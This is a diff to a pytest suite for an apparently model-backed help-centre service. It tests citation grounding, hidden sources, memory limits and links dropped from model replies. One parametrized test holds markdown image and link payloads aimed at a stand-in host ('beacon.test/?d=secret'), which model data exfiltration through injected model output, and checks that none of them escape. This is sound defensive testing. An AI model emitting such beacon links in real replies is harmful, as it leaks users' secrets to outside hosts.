@@ -8,6 +8,7 @@ import threading
 from typing import Any
 
 import httpx2
+import psutil
 import pytest
 from help_centre import C_PARTNER, C_SIGNED, C_STAFF, LONG_PARTS, PUBLIC, REFUND_QUOTE
 from model_replies import REFUND_CLAIM, answering, calls, opens, refund_answer, says, tool_results
@@ -55,6 +56,8 @@ def test_search_and_listing_count_only_what_is_visible(visitor: httpx2.Client, m
         assert hidden not in "".join(results)
         assert hidden not in whole
     assert f"total: {PUBLIC - 1}\n" in results[1], "one article comes in two languages"
+    assert not tool_results(model.bodies[1])[2].get("is_error"), "a page past the end is empty, and no error"
+    assert "(doc:" not in results[2]
     total = visitor.get("/v1/articles").json()["total"]
     assert total == PUBLIC
     listed = visitor.get("/v1/search?q=incident+runbook+duty+desk").json()
@@ -64,8 +67,8 @@ def test_search_and_listing_count_only_what_is_visible(visitor: httpx2.Client, m
 def test_nothing_restricted_shows_when_the_model_is_down(visitor: httpx2.Client, model: ScriptedModel) -> None:
     model.script()
     turn = visitor.post("/v1/ask", json={"question": "When are refunds of an incident issued?"}).json()
-    assert turn["status"] == "evidence"
-    assert {item["source_id"] for item in turn["evidence"]} <= {"refunds", "gift-cards", "poisoned"}
+    assert (turn["status"], turn["grounded"], turn["sources"]) == ("evidence", False, [])
+    assert "refunds" in {item["source_id"] for item in turn["evidence"]} <= {"refunds", "gift-cards", "poisoned"}
     for hidden in HIDDEN:
         assert hidden not in json.dumps(turn)
 
@@ -157,11 +160,76 @@ def test_no_markup_of_its_own_gets_out(visitor: httpx2.Client, model: ScriptedMo
         assert turn["answer"].startswith("Refund rules.")
 
 
-def test_an_invented_citation_is_text_and_grounds_nothing(visitor: httpx2.Client, model: ScriptedModel) -> None:
+@pytest.mark.parametrize(
+    "beacon",
+    ["![x](https://beacon.test/?d=secret)", "[a][r] ![b][r]\n\n[r]: https://beacon.test/?d=secret",
+     "[x](https://beacon.test/?d=secret)", "[![x](https://beacon.test/?d=secret)](doc:refunds)"],
+)  # fmt: skip
+def test_the_address_of_a_beacon_is_nowhere(
+    server: RefdeskServer, visitor: httpx2.Client, model: ScriptedModel, beacon: str
+) -> None:
+    """But in the console's list of dropped links, as text in a page that loads nothing of others."""
+    for reply in (answering(f"Refund rules. {beacon}\n\nEnd."), says(f"Refund rules. {beacon}\n\nEnd.")):
+        model.script(opens("refunds"), reply)
+        events = all_events(visitor, QUESTION)
+        turn = events[-1].json
+        history = visitor.get(f"/v1/conversations/{turn['conversation_id']}").text
+        with server.client(STAFF_KEY) as staff:
+            page = staff.get(f"/console/conversations/{turn['conversation_id']}")
+            exported = [staff.get(f"/v1/console/export.{kind}").text for kind in ("csv", "jsonl")]
+        for told in (*(event.data for event in events), history, *exported):
+            assert "beacon.test" not in told
+        assert not re.search(r'<[^>]*="[^"]*beacon\.test', page.text)
+        assert "img-src 'self'" in page.headers["content-security-policy"]
+
+
+def test_an_invented_citation_is_text_and_grounds_nothing(
+    server: RefdeskServer, visitor: httpx2.Client, model: ScriptedModel
+) -> None:
     model.script(answering("See [the law](doc:refundz) and [the runbook](doc:runbook)."))
     turn = visitor.post("/v1/ask", json={"question": QUESTION}).json()
     assert (turn["status"], turn["grounded"], turn["sources"]) == ("answered", False, [])
     assert turn["answer"] == "See the law and the runbook."
+    with server.client(STAFF_KEY) as staff:
+        dropped = staff.get(f"/v1/console/turns/{turn['id']}").json()["links_dropped"]
+    assert dropped == ["[the law](doc:refundz)", "[the runbook](doc:runbook)"]
+
+
+def test_what_was_only_listed_is_a_working_link_and_not_shown(visitor: httpx2.Client, model: ScriptedModel) -> None:
+    """However many there are; the next turn may link what this one has listed only if it was linked."""
+    listed = [f"filler-{n:02}" for n in range(6)]
+    links = ", ".join(f"[{name}](doc:{name})" for name in listed)
+    model.script(calls(("list_articles", {})), answering(f"There are {links}."))
+    first = visitor.post("/v1/ask", json={"question": QUESTION}).json()
+    assert [(source["id"], source["basis"], source["show"]) for source in first["sources"]] == [
+        (name, "listing", False) for name in listed
+    ]
+    assert all(visitor.get(source["url"]).status_code == 200 for source in first["sources"])
+    assert re.findall(r'href="([^"]*)"', first["answer_html"]) == [source["url"] for source in first["sources"]]
+    model.script(answering("[One](doc:filler-03), [two](doc:sla), [three](doc:setup)."))
+    body = {"question": "And when are refunds issued?", "conversation_id": first["conversation_id"]}
+    second = visitor.post("/v1/ask", json=body).json()
+    assert [(source["id"], source["basis"], source["show"]) for source in second["sources"]] == [
+        ("filler-03", "listing", False)
+    ]
+
+
+def test_one_article_by_two_tools_and_in_many_passages_is_one_source(
+    server: RefdeskServer, visitor: httpx2.Client, model: ScriptedModel
+) -> None:
+    question = {"question": "What does the warehouse ledger keep for imports?"}
+    seen = []
+    for _ in range(5):
+        wanted = [("search", {"query": "warehouse ledger import row operator"}), ("get_document", {"id": "ledger"})]
+        reply = answering("[Kept](doc:ledger), [One row](doc:ledger), [Refunds](doc:refunds).")
+        model.script(calls(*wanted, ("get_document", {"id": "refunds"})), reply)
+        turn = visitor.post("/v1/ask", json=question).json()
+        with server.client(STAFF_KEY) as staff:
+            found = {one["id"]: one for one in staff.get(f"/v1/console/turns/{turn['id']}").json()["documents"]}
+        assert set(found["ledger"]["tools"]) == {"search", "get_document"}
+        assert found["refunds"]["tools"] == ["get_document"]
+        seen.append([(source["id"], source["basis"], source["show"]) for source in turn["sources"]])
+    assert seen == [[("refunds", "opened", True), ("ledger", "part", True)]] * 5
 
 
 def test_hidden_sources_ground_nothing(visitor: httpx2.Client, model: ScriptedModel) -> None:
@@ -198,7 +266,9 @@ def test_quotes_true_and_false(visitor: httpx2.Client, model: ScriptedModel) -> 
 
 
 @pytest.mark.parametrize("order", ["claims first", "answer first", "plain text"])
-def test_a_flood_of_text_is_cut_without_a_half_link(visitor: httpx2.Client, model: ScriptedModel, order: str) -> None:
+def test_a_flood_of_text_is_cut_without_a_half_link(
+    server: RefdeskServer, visitor: httpx2.Client, model: ScriptedModel, order: str
+) -> None:
     flood = "Refunds, see [Refunds](doc:refunds). " * 20_000
     swapped = json.dumps({"answer": flood, "outcome": "answered", "claims": [], "conflicts": []})
     replies = {
@@ -213,6 +283,11 @@ def test_a_flood_of_text_is_cut_without_a_half_link(visitor: httpx2.Client, mode
     assert len(turn["answer"]) < 60_000
     assert turn["answer"].count("](") == turn["answer"].count("](/articles/refunds)")
     assert sum(len(event.data) for event in events) < 200_000
+    process = psutil.Process(server.pid)
+    before = process.memory_info().rss
+    for _ in range(3):
+        all_events(visitor, QUESTION)
+    assert process.memory_info().rss - before < 20 * 2**20
 
 
 @pytest.mark.parametrize(
